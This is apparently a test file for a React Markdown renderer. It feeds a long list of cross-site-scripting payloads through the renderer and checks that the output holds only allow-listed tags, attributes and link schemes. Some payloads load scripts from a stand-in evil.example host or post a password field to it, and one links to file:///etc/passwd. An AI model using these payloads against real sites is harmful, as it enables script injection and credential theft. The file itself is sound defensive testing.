import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5';
import { renderToStaticMarkup } from 'react-dom/server';
import { MarkdownView } from './MarkdownView.tsx';

type Node = DefaultTreeAdapterTypes.ChildNode;

const html = (text: string): string => renderToStaticMarkup(<MarkdownView text={text} />);

/** Every element and attribute that may result from a text. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'rel'],
  blockquote: ['dir'],
  br: [],
  code: [],
  del: [],
  div: ['class', 'tabindex', 'role', 'aria-label'],
  em: [],
  ...Object.fromEntries(['h2', 'h3', 'h4', 'h5', 'h6'].map((name) => [name, ['dir']])),
  hr: [],
  img: ['src', 'alt', 'loading', 'decoding', 'referrerpolicy'],
  input: ['type', 'checked', 'disabled', 'aria-label', 'readonly'],
  li: ['dir', 'class'],
  ol: ['start'],
  p: ['dir', 'class'],
  pre: ['class', 'tabindex', 'role', 'aria-label', 'dir'],
  strong: [],
  table: [],
  tbody: [],
  td: ['class', 'dir'],
  th: ['scope', 'class', 'dir'],
  thead: [],
  tr: [],
  ul: [],
};

const LINKS = new Set(['https:', 'http:', 'mailto:']);

/** The elements and attributes in the rendered text that are not allowed. */
function faults(nodes: readonly Node[]): string[] {
  return nodes.flatMap((node): string[] => {
    if (node.nodeName === '#text') return [];
    if (!('tagName' in node)) return [node.nodeName];
    const allowed = ALLOWED[node.tagName];
    if (allowed === undefined) return [`<${node.tagName}>`];
    const own = node.attrs.flatMap(({ name, value }) => {
      if (!allowed.includes(name)) return [`${node.tagName} ${name}`];
      if (name === 'href' && !LINKS.has(new URL(value, 'https://blog.example').protocol)) {
        return [value];
      }
      if (name === 'src' && !value.startsWith('https://')) return [value];
      return [];
    });
    return [...own, ...faults(node.childNodes)];
  });
}

test('headings begin below the page’s title, and no level is skipped, also in quotes and lists', () => {
  const found = html('### a\n\n> # b\n\n- ###### c\n\n## d').match(/<h\d/g);
  expect(found).toEqual(['<h2', '<h2', '<h3', '<h3']);
});

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="x" style="position:fixed;inset:0" onclick="alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<p id="attributes"><img name="getElementById">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '</div></main><script>alert(1)</script>',
  '`</code><script>alert(1)</script>`',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\ncode\n```',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#x3a;alert(1))',
  '[x](java&Tab;script&colon;alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](%6aavascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://blog.example/1)',
  '[x](file:///etc/passwd)',
  '[x](https://a.example" onmouseover="alert(1))',
  '[x](https://a.example \'x" onmouseover="alert(1)\')',
  '<javascript:alert(1)>',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x" onerror="alert(1)](https://a.example/x.png)',
  '![x](https://a.example/x.png" onerror="alert(1))',
  '![<script>alert(1)</script>](http://a.example)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '[a](<javascript:alert(1)>)',
  '- <script>alert(1)</script>\n- [ ] <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n| --- | --- |\n| <img src=x onerror=alert(1)> | y |',
  '> <script>alert(1)</script>',
  '# <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>',
  '[__proto__](constructor)\n\n```__proto__\nx\n```\n\n```constructor\nx\n```',
];

test.each(ATTACKS)('all of this stays text: %j', (attack) => {
  expect(faults(parseFragment(html(attack)).childNodes)).toEqual([]);
});

test('the check finds what these attacks would do', () => {
  const dangerous =
    '<a href="java\tscript:alert(1)">x</a><img src="x" onerror="y"><script></script>';
  expect(faults(parseFragment(dangerous).childNodes)).toEqual([
    'java\tscript:alert(1)',
    'x',
    'img onerror',
    '<script>',
  ]);
});

test.each([
  ['HTML is shown as it was written', '<b>x</b>', '<p dir="auto">&lt;b&gt;x&lt;/b&gt;</p>'],
  ['a title of the page stays the only one', '# A', '<h2 dir="auto">A</h2>'],
  ['character references', '&copy; &#169; &#xA9; &nope;', '<p dir="auto">© © © &amp;nope;</p>'],
  ['a reference to the ampersand, only once', '&#38;copy;', '<p dir="auto">&amp;copy;</p>'],
  [
    'character references in an address',
    '[a](https://b.example/&#233;&#xe9;)',
    '<p dir="auto"><a href="https://b.example/éé" rel="nofollow ugc noopener noreferrer">a</a></p>',
  ],
  ['no character references in code', '`&copy;`', '<p dir="auto"><code>&amp;copy;</code></p>'],
  ['an escaped reference', '\\&copy;', '<p dir="auto">&amp;copy;</p>'],
  ['emphasis', '**a** _b_ ~~c~~', '<p dir="auto"><strong>a</strong> <em>b</em> <del>c</del></p>'],
  [
    'a link',
    '[a](https://b.example/?c=1&amp;d=2)',
    '<p dir="auto"><a href="https://b.example/?c=1&amp;d=2" rel="nofollow ugc noopener noreferrer">a</a></p>',
  ],
  [
    'a bare address',
    'https://b.example',
    '<p dir="auto"><a href="https://b.example" rel="nofollow ugc noopener noreferrer">https://b.example</a></p>',
  ],
  ['a refused link becomes its text', '[a](javascript:b)', '<p dir="auto">a</p>'],
  [
    'an image',
    '![a](https://b.example/c.png)',
    '<p dir="auto"><img src="https://b.example/c.png" alt="a" loading="lazy" decoding="async" referrerPolicy="no-referrer"/></p>',
  ],
  [
    'an image without HTTPS becomes its description',
    '![a](http://b.example/c.png)',
    '<p dir="auto">a</p>',
  ],
  [
    'a list that does not begin at 1',
    '3. a\n4. b',
    '<ol start="3"><li dir="auto">a</li><li dir="auto">b</li></ol>',
  ],
])('shows %s', (_case, text, expected) => {
  // Frameworks write attributes in different case, which browsers ignore.
  const inner = html(text).replace(/^<div[^>]*>|<\/div>$/g, '');
  expect(inner.toLowerCase()).toBe(expected.toLowerCase());
});

test('shows a list of tasks, and a table', () => {
  const tasks = html('- [x] done\n- [ ] open');
  expect(tasks).toMatch(/aria-label="done"[^>]*checked="".*aria-label="to do"/);
  const table = html('| a | b |\n| :-: | --- |\n| 1 | 2 |');
  expect(table).toContain('<th scope="col" class="center" dir="auto">a</th>');
  expect(table).toContain('<td dir="auto">2</td>');
});

test('shows a text that is nested too deep as it was written', () => {
  const text = '>'.repeat(1_900);
  expect(html(text)).toContain('&gt;'.repeat(1_000));
});
